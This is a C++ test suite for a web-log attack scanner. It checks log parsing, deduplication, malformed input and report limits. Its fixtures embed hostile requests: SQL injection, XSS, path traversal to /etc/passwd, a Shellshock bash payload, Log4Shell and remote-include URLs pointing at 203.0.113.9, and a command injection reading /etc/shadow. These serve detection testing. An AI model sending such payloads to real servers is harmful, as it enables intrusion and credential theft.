#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>

#include <sqlite3.h>

#include "keikai/core/clock.h"
#include "keikai/core/hash.h"
#include "keikai/ingest/cursor.h"
#include "keikai/pipeline/scan.h"
#include "keikai/report/build.h"
#include "keikai/report/render.h"
#include "test_util.h"

namespace keikai::pipeline {
namespace {

using keikai::testing::TempDir;
using keikai::testing::WriteFile;

std::string Line(int i, const std::string& target = "/index.html", int status = 200,
                 const std::string& ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/97.0",
                 const std::string& ip = "203.0.113.10", const std::string& referer = "-") {
  char ts[64];
  std::snprintf(ts, sizeof ts, "16/Feb/2022:%02d:%02d:%02d +0900", (i / 3600) % 24, (i / 60) % 60,
                i % 60);
  return ip + " - - [" + ts + "] \"GET " + target + " HTTP/1.1\" " + std::to_string(status) +
         " 512 \"" + referer + "\" \"" + ua + "\"\n";
}

class PipelineTest : public ::testing::Test {
 protected:
  void SetUp() override {
    det_ = std::make_unique<detect::DetectorSet>(
        std::move(detect::DetectorSet::Build(detect::Builtins())).value());
    store_ = std::move(store::OpenSqlite(":memory:")).value();
  }
  ScanResult Run(const std::vector<std::string>& inputs, ScanOptions o = {}) {
    o.inputs = inputs;
    auto r = Scan(o, *store_, *det_, nullptr);
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return r.ok() ? r.value() : ScanResult{};
  }
  std::unique_ptr<detect::DetectorSet> det_;
  std::unique_ptr<store::Store> store_;
  TempDir dir_;
};

TEST_F(PipelineTest, ScanningTheSameFileTwiceCountsItOnce) {
  std::string data;
  for (int i = 0; i < 100; ++i) data += Line(i, i % 10 == 0 ? "/.env" : "/index.html");
  WriteFile(dir_ / "shop.example.jp.log", data);
  ScanResult a = Run({dir_ / "shop.example.jp.log"});
  EXPECT_EQ(a.summary.parsed, 100u);
  EXPECT_EQ(a.sites, std::vector<std::string>{"shop.example.jp"});
  ScanResult b = Run({dir_ / "shop.example.jp.log"});
  EXPECT_EQ(b.summary.parsed, 0u);
  EXPECT_EQ(b.summary.already_ingested, 100u);
  auto req = store_->RequestHours({});
  uint64_t total = 0;
  for (const auto& h : req.value()) total += h.count;
  EXPECT_EQ(total, 100u);
  auto atk = store_->AttackHours({});
  uint64_t attacks = 0;
  for (const auto& h : atk.value()) attacks += h.cls == store::kAllClasses ? h.count : 0;
  EXPECT_EQ(attacks, 10u);
}

TEST_F(PipelineTest, RotatedAndCompressedFileContinuesWhereItStopped) {
  std::string first;
  for (int i = 0; i < 50; ++i) first += Line(i);
  WriteFile(dir_ / "access.log", first);
  ScanOptions first_opt;
  first_opt.site = "s";
  EXPECT_EQ(Run({dir_ / "access.log"}, first_opt).summary.parsed, 50u);
  // The server wrote more, then logrotate renamed and compressed the file.
  std::string more;
  for (int i = 50; i < 80; ++i) more += Line(i);
  std::filesystem::remove(dir_ / "access.log");
  WriteFile(dir_ / "access.log.1.gz", keikai::testing::Gzip(first + more));
  std::string fresh;
  for (int i = 80; i < 90; ++i) fresh += Line(i);
  WriteFile(dir_ / "access.log", fresh);
  ScanOptions o;
  o.site = "s";
  ScanResult r = Run({dir_ / "access.log*"}, o);
  EXPECT_EQ(r.summary.already_ingested, 50u);
  EXPECT_EQ(r.summary.parsed, 40u);
  ASSERT_EQ(r.files.size(), 2u);
  EXPECT_EQ(std::filesystem::path(r.files[0].path).filename(), "access.log.1.gz");
}

TEST_F(PipelineTest, HostileFileIsScannedToTheEnd) {
  std::string data;
  int good = 0, bad = 0;
  auto add_good = [&](const std::string& l) {
    data += l;
    ++good;
  };
  for (int i = 0; i < 20; ++i) add_good(Line(i));
  data += "complete garbage\n";                                     ++bad;  // line 21
  data += Line(21).substr(0, 40) + "\n";                            ++bad;  // truncated
  data += std::string("\x00\x01\x02\xff\xfe binary", 12) + "\n";     ++bad;  // binary
  data += std::string(1 << 20, 'A') + "\n";                          ++bad;  // 1 MB line
  add_good(Line(30, "/caf\xe9", 404, "Shift_JIS \x83\x65\x83\x58\x83\x67"));  // wrong encodings
  add_good(Line(31, "/\xff\xfe\xfd", 200, "\xc3\x28 invalid utf-8"));
  data += "\n";  // blank: skipped, not bad
  for (int i = 40; i < 60; ++i) add_good(Line(i));
  data += "{\"not\": \"this format\"}\n";                            ++bad;
  WriteFile(dir_ / "hostile.log", data);
  ScanOptions o;
  o.log_format = "combined";
  o.max_line = 64 * 1024;
  ScanResult r = Run({dir_ / "hostile.log"}, o);
  EXPECT_EQ(r.summary.parsed, static_cast<uint64_t>(good));
  EXPECT_EQ(r.summary.bad_lines, static_cast<uint64_t>(bad));
  EXPECT_EQ(r.summary.skipped, 1u);
  ASSERT_EQ(r.bad_line_samples.size(), static_cast<std::size_t>(bad));
  EXPECT_EQ(r.bad_line_samples[0].line, 21u);
  EXPECT_EQ(r.bad_line_samples[0].code, "expected_literal");
  EXPECT_EQ(r.bad_line_samples[2].code, "binary");
  EXPECT_EQ(r.bad_line_samples[3].line, 24u);
  EXPECT_EQ(r.bad_line_samples[3].code, "line_too_long");
  EXPECT_LE(r.bad_line_samples[3].excerpt.size(), 200u * 3);
  EXPECT_EQ(r.summary.lines, static_cast<uint64_t>(good + bad + 1));
}

TEST_F(PipelineTest, UnterminatedLastLineOfAPlainFileIsHeldBack) {
  std::string data = Line(1) + Line(2);
  data += Line(3).substr(0, 60);  // still being written
  WriteFile(dir_ / "growing.log", data);
  ScanResult r = Run({dir_ / "growing.log"});
  EXPECT_EQ(r.summary.parsed, 2u);
  EXPECT_EQ(r.files[0].held_back, 1u);
  WriteFile(dir_ / "growing.log", Line(1) + Line(2) + Line(3) + Line(4));
  ScanResult r2 = Run({dir_ / "growing.log"});
  EXPECT_EQ(r2.summary.already_ingested, 2u);
  EXPECT_EQ(r2.summary.parsed, 2u);
}

TEST_F(PipelineTest, TrustedProxyUsesForwardedFor) {
  WriteFile(dir_ / "p.log",
            R"(10.0.0.1 - - [16/Feb/2022:10:00:00 +0900] "GET /.env HTTP/1.1" 404 0 "-" "x" "198.51.100.9, 10.0.0.2")"
            "\n"
            R"(203.0.113.5 - - [16/Feb/2022:10:00:01 +0900] "GET /.env HTTP/1.1" 404 0 "-" "x" "198.51.100.10")"
            "\n");
  ScanOptions o;
  o.log_format = "nginx-main";
  http::IpPrefix p;
  ASSERT_TRUE(http::IpPrefix::Parse("10.0.0.0/8", p));
  o.trusted_proxies = {p};
  std::vector<std::string> ips;
  o.on_detection = [&](const DetectionEvent& ev) { ips.emplace_back(ev.req->client_ip); };
  Run({dir_ / "p.log"}, o);
  // Behind our proxy: the client from X-Forwarded-For. Not behind it: the header is ignored.
  EXPECT_EQ(ips, (std::vector<std::string>{"198.51.100.9", "203.0.113.5"}));
}

TEST_F(PipelineTest, MissingFileIsAnErrorButOthersAreScanned) {
  WriteFile(dir_ / "ok.log", Line(1));
  ScanResult r = Run({dir_ / "missing.log", dir_ / "ok.log"});
  EXPECT_EQ(r.summary.parsed, 1u);
  EXPECT_NE(r.first_error.find("missing.log"), std::string::npos);
}

// Log mode evaluates CRS on the request part and each client header of a line separately
// (and remembers each); the attack rules found must be those of evaluating the whole request.
TEST_F(PipelineTest, CrsOnLogLinesAgreesWithWholeRequestEvaluation) {
  const std::string crs = std::string(KEIKAI_SHARED_DIR) + "/data/crs/v4.28.0";
  if (!std::filesystem::exists(crs + "/rules")) GTEST_SKIP() << "no CRS at " << crs;
  auto rs = rules::LoadCrs(crs, 1, "", /*for_logs=*/true);
  ASSERT_TRUE(rs.ok()) << rs.status().ToString();
  struct Case {
    std::string target, ua, referer = "-";
  };
  const std::vector<Case> cases = {
      {"/index.html", "Mozilla/5.0 (X11; Linux x86_64) Firefox/97.0"},
      {"/item.php?id=1%27%20OR%20%271%27%3D%271", "Mozilla/5.0"},
      {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla/5.0"},
      {"/../../etc/passwd", "curl/8.5.0"},
      {"/cgi-bin/test.cgi", "() { :; }; /bin/bash -c 'id'"},
      {"/", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
      {"/api?x=${jndi:ldap://203.0.113.9/a}", "Mozilla/5.0"},
      {"/index.php?page=http://203.0.113.9/shell.txt", "Mozilla/5.0"},
      {"/q?cmd=;cat%20/etc/shadow", "Mozilla/5.0 <script>alert(1)</script>"},
      {"/index.html", "Mozilla/5.0"},  // repeated parts come from the memo
      {"/item.php?id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
      {"/index.html", "Mozilla/5.0", "https://www.example.jp/?q=1' UNION SELECT password FROM users--"},
      {"/", "Nikto/2.5.0", "https://www.example.jp/<script>alert(1)</script>"},
      {"/index.html", "Mozilla/5.0", "https://www.example.jp/?q=1' UNION SELECT password FROM users--"},
      {"/a.php?f=../../../../etc/passwd", "Mozilla/5.0", "https://www.example.jp/"},
  };
  std::string data;
  for (std::size_t i = 0; i < cases.size(); ++i) {
    data += Line(static_cast<int>(i), cases[i].target, 200, cases[i].ua, "203.0.113.10",
                 cases[i].referer);
  }
  WriteFile(dir_ / "crs.example.jp.log", data);
  rules::Evaluator whole(rs.value());
  ScanOptions o;
  o.rules = rs.value();
  o.behavior = false;
  int compared = 0, with_crs = 0;
  o.on_detection = [&](const DetectionEvent& ev) {
    std::vector<int> split, joint;
    for (const rules::RuleMatch& m : *ev.rule_matches) split.push_back(m.id);
    for (const rules::RuleMatch& m : whole.Evaluate(http::ToFullRequest(*ev.req)).matches) {
      if (m.logged && RuleMatchClasses(m) != 0) joint.push_back(m.id);
    }
    std::sort(split.begin(), split.end());
    std::sort(joint.begin(), joint.end());
    joint.erase(std::unique(joint.begin(), joint.end()), joint.end());
    EXPECT_EQ(split, joint) << ev.req->target << " / " << ev.req->user_agent << " / "
                            << ev.req->referer;
    ++compared;
    with_crs += split.empty() ? 0 : 1;
  };
  ScanResult r = Run({dir_ / "crs.example.jp.log"}, o);
  EXPECT_EQ(r.summary.parsed, cases.size());
  EXPECT_GE(compared, 13);  // nearly every line but the plain page is found as an attack
  EXPECT_GE(with_crs, 12);  // and CRS confirms nearly all of them
}

TEST(SiteFromFileName, StripsRotationAndSuffixes) {
  EXPECT_EQ(SiteFromFileName("/var/log/nginx/shop.example.jp.access.log.2.gz"), "shop.example.jp");
  EXPECT_EQ(SiteFromFileName("logs/shop.example.jp.log"), "shop.example.jp");
  EXPECT_EQ(SiteFromFileName("/var/log/nginx/access.log"), "default");
  EXPECT_EQ(SiteFromFileName("/var/log/apache2/access.log.1"), "default");
  EXPECT_EQ(SiteFromFileName("corp-access.log-20220301.zst"), "corp");
  EXPECT_EQ(SiteFromFileName("-"), "default");
}

}  // namespace
}  // namespace keikai::pipeline

namespace keikai::pipeline {
namespace {

TEST_F(PipelineTest, ReportsAreDeterministicUnderAFakeClock) {
  std::string data;
  for (int i = 0; i < 30; ++i) data += Line(i, i % 3 == 0 ? "/.env" : "/");
  WriteFile(dir_ / "s.log", data);
  ScanResult res = Run({dir_ / "s.log"});
  FakeClock clock(1645000000);  // 2022-02-16 08:26:40 UTC
  report::BuildOptions bo;
  bo.clock = &clock;
  bo.tz = TimeZone::Jst();
  auto a = report::BuildReport(*store_, &res, bo);
  ASSERT_TRUE(a.ok());
  EXPECT_EQ(a.value().generated_at, "2022-02-16 17:26:40 +09:00");
  auto b = report::BuildReport(*store_, &res, bo);
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(report::RenderJson(a.value()), report::RenderJson(b.value()));
  clock.Advance(3600);
  auto c = report::BuildReport(*store_, &res, bo);
  EXPECT_EQ(c.value().generated_at, "2022-02-16 18:26:40 +09:00");
}

// Issue 11: two lines dated 2022 and 31/Dec/9999 took gigabytes and poisoned every later report.
TEST_F(PipelineTest, ImpossibleDatesAreBadLinesAndReportsStayBounded) {
  std::string data;
  for (int i = 0; i < 200; ++i) data += Line(i, i % 7 == 0 ? "/.env" : "/");
  data += "203.0.113.10 - - [31/Dec/9999:23:59:59 +0900] \"GET /.env HTTP/1.1\" 404 1 \"-\" \"x\"\n";
  data += "203.0.113.10 - - [01/Jan/1971:00:00:00 +0900] \"GET /.env HTTP/1.1\" 404 1 \"-\" \"x\"\n";
  data += "203.0.113.10 - - [01/Jan/2001:00:00:00 +0900] \"GET /.env HTTP/1.1\" 404 1 \"-\" \"x\"\n";
  for (int i = 200; i < 260; ++i) data += Line(i);
  WriteFile(dir_ / "far.log", data);
  ScanOptions o;
  o.now = 1700000000;
  ScanResult res = Run({dir_ / "far.log"}, o);
  EXPECT_EQ(res.summary.parsed, 260u);
  EXPECT_EQ(res.summary.bad_lines, 3u);
  ASSERT_EQ(res.bad_line_samples.size(), 3u);
  EXPECT_EQ(res.bad_line_samples[0].code, "time_future");
  EXPECT_EQ(res.bad_line_samples[1].code, "time_past");
  EXPECT_EQ(res.bad_line_samples[2].code, "time_out_of_range");
  report::BuildOptions bo;
  FakeClock clock(1700000000);
  bo.clock = &clock;
  auto r = report::BuildReport(*store_, &res, bo);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(FormatDate(r.value().first_day), "2022-02-16");
  EXPECT_EQ(FormatDate(r.value().last_day), "2022-02-16");
  // A log that really jumps (the line after the jump agrees) keeps both sides.
  std::string jump;
  for (int i = 0; i < 20; ++i) jump += Line(i, "/a");
  jump += "203.0.113.11 - - [01/Jun/2023:00:00:00 +0900] \"GET /b HTTP/1.1\" 200 1 \"-\" \"x\"\n";
  jump += "203.0.113.11 - - [01/Jun/2023:00:00:05 +0900] \"GET /c HTTP/1.1\" 200 1 \"-\" \"x\"\n";
  WriteFile(dir_ / "jump.log", jump);
  ScanResult j = Run({dir_ / "jump.log"}, o);
  EXPECT_EQ(j.summary.parsed, 22u);
  EXPECT_EQ(j.summary.bad_lines, 0u);
}

// A store poisoned by an older keikai (an hour in year 9999) is repaired on open.
TEST(StoreRepair, FarFutureHoursAreRemovedByTheMigration) {
  keikai::testing::TempDir d;
  const std::string path = d / "old.db";
  {
    auto s = store::OpenSqlite(path);
    ASSERT_TRUE(s.ok());
    store::Batch b;
    b.requests = {{"a.jp", 400000, 10}, {"a.jp", 70000000, 1}};
    ASSERT_TRUE(s.value()->Commit(b).ok());
  }
  // Pretend the store is at schema version 4 (before the repair) and open it again.
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(path.c_str(), &db), SQLITE_OK);
  sqlite3_exec(db, "DELETE FROM schema_migrations WHERE version > 4", nullptr, nullptr, nullptr);
  sqlite3_exec(db, "DROP INDEX findings_site_path_hit_time", nullptr, nullptr, nullptr);
  sqlite3_exec(db, "ALTER TABLE findings DROP COLUMN target_hit", nullptr, nullptr, nullptr);
  sqlite3_exec(db, "ALTER TABLE stream_checkpoints DROP COLUMN line_fps", nullptr, nullptr, nullptr);
  // request_hours as it was before migration 9 (no kind).
  ASSERT_EQ(sqlite3_exec(db,
                         "ALTER TABLE findings DROP COLUMN kind; DROP TABLE applied_batches; DROP TABLE kept_state;"
                         "DROP TABLE probe_results;"
                         "CREATE TABLE rh (site TEXT NOT NULL, hour INTEGER NOT NULL, count INTEGER NOT NULL, "
                         "PRIMARY KEY (site, hour)) WITHOUT ROWID;"
                         "INSERT INTO rh SELECT site, hour, SUM(count) FROM request_hours GROUP BY site, hour;"
                         "DROP TABLE request_hours; ALTER TABLE rh RENAME TO request_hours;",
                         nullptr, nullptr, nullptr),
            SQLITE_OK);
  sqlite3_close(db);
  auto s = store::OpenSqlite(path);
  ASSERT_TRUE(s.ok()) << s.status().ToString();
  auto hours = s.value()->RequestHours({});
  ASSERT_TRUE(hours.ok());
  ASSERT_EQ(hours.value().size(), 1u);
  EXPECT_EQ(hours.value()[0].hour, 400000);
  EXPECT_EQ(hours.value()[0].count, 10u);  // migration 9 kept the counts (as web events)
}

// Issue 11: 100,000 one-line vhosts made a report of 100,000 sites (873 MB, quadratic HTML).
TEST_F(PipelineTest, SitesFromHostNamesAreBounded) {
  std::string data;
  for (int i = 0; i < 3000; ++i) {
    data += "h" + std::to_string(i) + ".example:80 203.0.113.1 - - [16/Feb/2022:10:00:00 +0900] "
            "\"GET /.env HTTP/1.1\" 404 1 \"-\" \"Mozilla/5.0\"\n";
  }
  data += "bad\x1b]0;x\x07host:80 203.0.113.1 - - [16/Feb/2022:10:00:00 +0900] \"GET / HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0\"\n";
  WriteFile(dir_ / "vhosts.log", data);
  ScanOptions o;
  o.max_sites = 100;
  o.behavior = false;
  ScanResult res = Run({dir_ / "vhosts.log"}, o);
  EXPECT_EQ(res.summary.parsed, 3001u);
  EXPECT_EQ(res.folded_requests, 2900u);
  EXPECT_TRUE(res.all_sites);
  auto sites = store_->Sites();
  ASSERT_TRUE(sites.ok());
  EXPECT_EQ(sites.value().size(), 102u);  // 100, "(other)" and the file's own for the bad Host
  report::BuildOptions bo;
  bo.max_sites = 10;
  auto r = report::BuildReport(*store_, &res, bo);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value().sites.size(), 10u);
  EXPECT_EQ(r.value().other_sites, 92u);
  EXPECT_EQ(r.value().summary.requests, 3001u);
  const std::string html = report::RenderHtml(r.value());
  EXPECT_LT(html.size(), 200u * 1024);
  EXPECT_NE(html.find("92 more"), std::string::npos);
}

TEST_F(PipelineTest, FindingsBeyondTheBoundAreCountedAndSaidSo) {
  std::string data;
  for (int i = 0; i < 40; ++i) {
    data += "203.0.113." + std::to_string(i) + " - - [16/Feb/2022:10:00:00 +0900] "
            "\"GET /.env HTTP/1.1\" 404 1 \"-\" \"Mozilla/5.0\"\n";
  }
  WriteFile(dir_ / "f.log", data);
  ScanOptions o;
  o.max_findings = 25;
  o.behavior = false;
  ScanResult res = Run({dir_ / "f.log"}, o);
  EXPECT_EQ(res.findings_dropped, 15u);
  auto r = report::BuildReport(*store_, &res, report::BuildOptions{});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r.value().summary.attacks, 40u);  // all counted
  bool said = false;
  for (const std::string& n : res.notes) said |= n.find("15 detections beyond the first 25") != std::string::npos;
  EXPECT_TRUE(said);
}

// Issue 10: nginx writes '"' and '\\' as \xHH, Apache as \" and \\, IIS writes spaces in user
// agents as '+'. The same traffic through each server's format gives the same detections.
TEST_F(PipelineTest, ServerLogEscapingIsUndoneBeforeDetection) {
  struct Req {
    std::string target, ua;
  };
  const Req reqs[] = {
      {"/item.php?id=\"%20or%20\"a\"=\"a", "Mozilla/5.0"},
      {"/q?f=..\\..\\..\\windows\\win.ini", "Mozilla/5.0"},
      {"/search?q=<script>alert(1)</script>", "Mozilla/5.0"},
      {"/", "Fuzz Faster U Fool v2.1.0"},
      {"/p?x=1", "Mozilla/5.0 (X11; Linux x86_64) ${jndi:ldap://x/a}"},
      {"/home", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"},
  };
  auto nginx = [](const std::string& s) {
    std::string o;
    for (unsigned char c : s) {
      if (c == '"' || c == '\\' || c < 0x20 || c > 0x7e) {
        char b[8];
        std::snprintf(b, sizeof b, "\\x%02X", c);
        o += b;
      } else {
        o += static_cast<char>(c);
      }
    }
    return o;
  };
  auto apache = [](const std::string& s) {
    std::string o;
    for (char c : s) o += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : std::string(1, c);
    return o;
  };
  std::string ng, ap, iis = "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip "
                              "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
                              "sc-status sc-substatus sc-win32-status time-taken\n";
  int i = 0;
  for (const Req& r : reqs) {
    char ts[64];
    std::snprintf(ts, sizeof ts, "16/Feb/2022:10:00:%02d +0900", i);
    const std::string ip = "203.0.113." + std::to_string(50 + i);
    ng += ip + " - - [" + ts + "] \"GET " + nginx(r.target) + " HTTP/1.1\" 404 1 \"-\" \"" + nginx(r.ua) + "\"\n";
    ap += ip + " - - [" + ts + "] \"GET " + apache(r.target) + " HTTP/1.1\" 404 1 \"-\" \"" + apache(r.ua) + "\"\n";
    const std::size_t q = r.target.find('?');
    std::string ua = r.ua;
    for (char& c : ua) c = c == ' ' ? '+' : c;
    std::string stem = r.target.substr(0, q), query = q == std::string::npos ? "-" : r.target.substr(q + 1);
    for (std::string* f : {&stem, &query}) {
      std::string enc;
      for (char c : *f) enc += c == ' ' ? std::string("%20") : std::string(1, c);
      *f = enc;
    }
    char iis_ts[32];
    std::snprintf(iis_ts, sizeof iis_ts, "2022-02-16 01:00:%02d", i);
    iis += std::string(iis_ts) + " 10.0.0.1 GET " + stem + " " + query + " 443 - " + ip + " " + ua + " 404 0 0 5\n";
    ++i;
  }
  WriteFile(dir_ / "n.log", ng);
  WriteFile(dir_ / "a.log", ap);
  WriteFile(dir_ / "i.log", iis);
  auto detections = [&](const std::string& file, const char* format) {
    store_ = std::move(store::OpenSqlite(":memory:")).value();
    std::vector<std::string> out;
    ScanOptions o;
    o.behavior = false;
    o.log_format = format;
    o.on_detection = [&](const DetectionEvent& ev) {
      std::string ids;
      for (const detect::Hit& h : ev.detection->hits) ids += std::string(ev.detectors->specs()[h.detector].id) + " ";
      out.push_back(std::string(ev.req->client_ip) + " " + ids);
    };
    Run({dir_ / file}, o);
    std::sort(out.begin(), out.end());
    return out;
  };
  const auto n = detections("n.log", "combined");
  EXPECT_EQ(n.size(), 5u);
  EXPECT_EQ(detections("a.log", "combined"), n);
  EXPECT_EQ(detections("i.log", "iis"), n);
}

}  // namespace
}  // namespace keikai::pipeline

namespace keikai::pipeline {
namespace {

// A mark as keikai wrote them up to schema 3: the start of the last ingested line, the lines
// before it, and that line's hash ("%016x:length" of its FNV-1a).
std::string LegacyLineHash(std::string_view l) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%016llx", static_cast<unsigned long long>(Fnv1a64(l)));
  return std::string(buf) + ":" + std::to_string(l.size());
}

// An upgraded store with a schema-3 mark (a `files` row) continues that file where the mark
// says, once, converted into a stream; a mark whose last line does not match is not this file's.
TEST(LegacyMarks, SchemaThreeMarkContinuesTheFile) {
  TempDir dir;
  std::string log;
  std::vector<std::string> lines;
  for (int i = 0; i < 100; ++i) {
    lines.push_back(Line(i, "/p" + std::to_string(i)));
    log += lines.back();
  }
  WriteFile(dir / "shop.log", log);
  auto first = [&](int n) { return lines[static_cast<std::size_t>(n)].substr(0, lines[static_cast<std::size_t>(n)].size() - 1); };
  std::size_t offset60 = 0;  // the start of line 60 (1-based), the last one the mark ingested
  for (int i = 0; i < 59; ++i) offset60 += lines[static_cast<std::size_t>(i)].size();
  ingest::KeyBuilder kb;
  ASSERT_TRUE(kb.Add(first(0)));
  auto det = detect::DetectorSet::Build(detect::Builtins());
  ASSERT_TRUE(det.ok());
  for (const bool good : {true, false}) {
    SCOPED_TRACE(good);
    const std::string db = dir / (good ? "good.db" : "bad.db");
    { ASSERT_TRUE(store::OpenSqlite(db).ok()); }
    sqlite3* h = nullptr;
    ASSERT_EQ(sqlite3_open(db.c_str(), &h), SQLITE_OK);
    const std::string sql = "INSERT INTO files (first_line_hash, path, site, offset, lines, tail_hash) VALUES ('" +
                            kb.key() + "', 'old/shop.log', 'shop', " + std::to_string(offset60) + ", 59, '" +
                            LegacyLineHash(good ? first(59) : first(58)) + "')";
    ASSERT_EQ(sqlite3_exec(h, sql.c_str(), nullptr, nullptr, nullptr), SQLITE_OK);
    sqlite3_close(h);
    auto st = store::OpenSqlite(db);
    ASSERT_TRUE(st.ok());
    ScanOptions o;
    o.inputs = {dir / "shop.log"};
    auto r = Scan(o, *st.value(), det.value(), nullptr);
    ASSERT_TRUE(r.ok()) << r.status().ToString();
    EXPECT_EQ(r.value().summary.already_ingested, good ? 60u : 0u);
    EXPECT_EQ(r.value().summary.parsed, good ? 40u : 100u);
    auto again = Scan(o, *st.value(), det.value(), nullptr);
    ASSERT_TRUE(again.ok());
    EXPECT_EQ(again.value().summary.parsed, 0u);
    EXPECT_EQ(again.value().summary.already_ingested, 100u);
  }
}

}  // namespace
}  // namespace keikai::pipeline
